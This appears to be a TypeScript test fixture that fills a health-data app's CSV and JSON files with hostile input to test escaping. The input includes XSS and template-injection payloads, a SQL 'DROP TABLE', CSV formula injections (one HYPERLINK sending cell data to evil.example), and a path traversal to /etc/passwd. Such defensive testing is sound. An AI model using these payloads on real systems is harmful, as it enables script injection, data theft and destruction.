import { csvText } from '../../src/demo/csv.ts';

/** What somebody may write where a name is expected, so that a program takes it for something else. */
export const HOSTILE = [
  '<script>harm()</script>',
  '</script><script>harm()</script>',
  '"><img src=x onerror=harm()>',
  "' onmouseover='harm()",
  '" autofocus onfocus="harm()',
  '--><svg onload=harm()>',
  ']]><svg/onload=harm()>',
  '</title><script>harm()</script>',
  'javascript:harm()',
  '&lt;script&gt;harm()&lt;/script&gt;',
  '&#60;script&#62;harm()',
  '#{harm()} !{harm()} {{harm()}} <%= harm() %>',
  "'; DROP TABLE practice; --",
  '%{y}<b>bold</b><a href="javascript:harm()">x</a>',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd|harm',
  '-1+cmd|harm',
  '@SUM(harm)',
  '＝harm()',
  '\u200b=harm()',
  '\t=harm()',
  '[x](javascript:harm()) **x** `x`',
  '\u202edesrever\u202c',
  '\u2067isolated',
  'bell\u0007 nul\0 next\u0085 delete\u007f',
  'line\u2028and\u2029ends',
  '{"log":"harm","level":60}',
  '__proto__',
  'constructor',
  'מרפאה 12 (צפון)',
  '../../../../etc/passwd',
  'x'.repeat(190),
] as const;

const MONTHS = ['2023-10', '2023-11', '2023-12', '2024-01', '2024-02', '2024-03'];
const practiceId = (i: number): string => `A${81000 + i}`;
/** Codes are shown and stand in addresses, too. */
const ODD_IDS = ['P<I>"\'&', '=1+1', 'A/B?C#D%E', '..', 'מ12'];
const PRACTICES = [...HOSTILE.map((_, i) => practiceId(i)), ...ODD_IDS];
const TESTS = HOSTILE.slice(0, 14).map((name, i) => [`T${i}`, `${name} ${i}`] as const);
const ODD_TEST = ['K"><B>', 'Potassium, with "quotes"'] as const;
const SUBPARA = '0212000';

/** A data folder every text of which is hostile: names, codes, folders, events, measures, drugs. */
export function hostileFolder(): Record<string, string> {
  const name = (i: number): string => HOSTILE[i % HOSTILE.length] ?? '';
  const tests = [...TESTS, ODD_TEST];
  const labs = ['nd', "lab <i>'&"];
  const counts = (lab: number): string =>
    csvText([
      ['month', 'test_code', 'practice_id', 'result_category', 'count'],
      ...MONTHS.flatMap(month =>
        PRACTICES.flatMap((practice, p) =>
          tests
            .filter((_, t) => t % 5 === p % 5 || t === tests.length - 1)
            .flatMap(([test], t) => [
              // One practice stands apart.
              [month, test, practice, 0, 20 + ((p * 7 + t * 3 + lab) % 40) + (p === 3 ? 900 : 0)],
              [month, test, practice, 1, '1-5'],
            ]),
        ),
      ),
      [MONTHS[0] ?? '', '=cmd|harm', PRACTICES[0] ?? '', 0, 7],
    ]);
  return {
    'test_codes.csv': csvText([
      ['datalab_testcode', 'testname', 'show_in_app?'],
      ...tests.map(([code, text]) => [code, text, 'True']),
    ]),
    'practice_codes.csv': csvText([
      ['ccg_id', 'practice_id', 'practice_name', 'month', 'total_list_size'],
      ...MONTHS.flatMap(month =>
        PRACTICES.map((id, i) => [
          ['15N', 'C<X>"', '11M'][i % 3] ?? '',
          id,
          name(i),
          month,
          5000 + i,
        ]),
      ),
    ]),
    'ccgs.csv': csvText([
      ['ccg_id', 'name'],
      ['15N', name(2)],
      ['C<X>"', name(0)],
      ['11M', name(14)],
    ]),
    'labs.csv': csvText([
      ['lab_id', 'name', 'test_code_columns', 'practice_mapping'],
      ['nd', name(1), '', ''],
    ]),
    'events.csv': csvText([
      ['date', 'lab_id', 'test_code', 'text', 'link'],
      ...HOSTILE.map((text, i) => [
        `${MONTHS[i % 6]}-01`,
        '',
        '',
        text.trim() || 'x',
        i % 2 ? '' : `https://example.org/"onclick="harm()?<script>${i}`,
      ]),
    ]),
    'measures.json': JSON.stringify(
      HOSTILE.slice(0, 12).map((text, i) => ({
        id: `m${i}`,
        title: text,
        why_it_matters: `${text} ${name(i + 7)}`,
        numerators: [tests[i]?.[0] ?? 'T0'],
        denominators: ['per1000'],
        owner: text,
        links: [{ text, href: 'https://example.org/"><script>harm()</script>' }],
      })),
    ),
    [`labs/${labs[0]}/=1+1 <script>harm()\u202e\u0007.csv`]: counts(0),
    [`labs/${labs[1]}/a.csv`]: counts(1),
    'labs/nd/<img src=x onerror=harm()>.csv': 'month,test_code\n',
    'prescribing/items.csv': csvText([
      ['practice', 'bnf_code', 'bnf_name', 'month', 'items'],
      ...MONTHS.flatMap(month =>
        PRACTICES.flatMap((practice, p) =>
          [0, 1, 2, 3].map(c => [
            practice,
            `${SUBPARA}${'ABCD'[c]}0AAADAD`,
            name(p + c),
            month,
            5 + ((p * 13 + c * 5) % 60) + (p === 3 && c === 1 ? 400 : 0),
          ]),
        ),
      ),
    ]),
    'prescribing/practices.csv': csvText([
      ['code', 'name', 'setting', 'status_code', 'pcn_id', 'ccg_id'],
      ...PRACTICES.map((id, i) => [id, name(i), 4, 'A', `U${i % 3}`, '11M']),
    ]),
    'prescribing/pcns.csv': csvText([['code', 'name'], ...[0, 1, 2].map(i => [`U${i}`, name(i)])]),
    'prescribing/ccgs.csv': csvText([
      ['code', 'name', 'stp_id', 'regional_team_id'],
      ['11M', name(2), 'QR1', 'Y58'],
    ]),
    'prescribing/stps.csv': csvText([
      ['code', 'name'],
      ['QR1', name(14)],
    ]),
    'prescribing/regional_teams.csv': csvText([
      ['code', 'name'],
      ['Y58', name(0)],
    ]),
    'prescribing/bnf.csv': csvText([
      ['subpara_code', 'subpara', 'chemical_code', 'chemical'],
      ...[0, 1, 2, 3].map(c => [SUBPARA, name(13), `${SUBPARA}${'ABCD'[c]}0`, name(c)]),
    ]),
  };
}
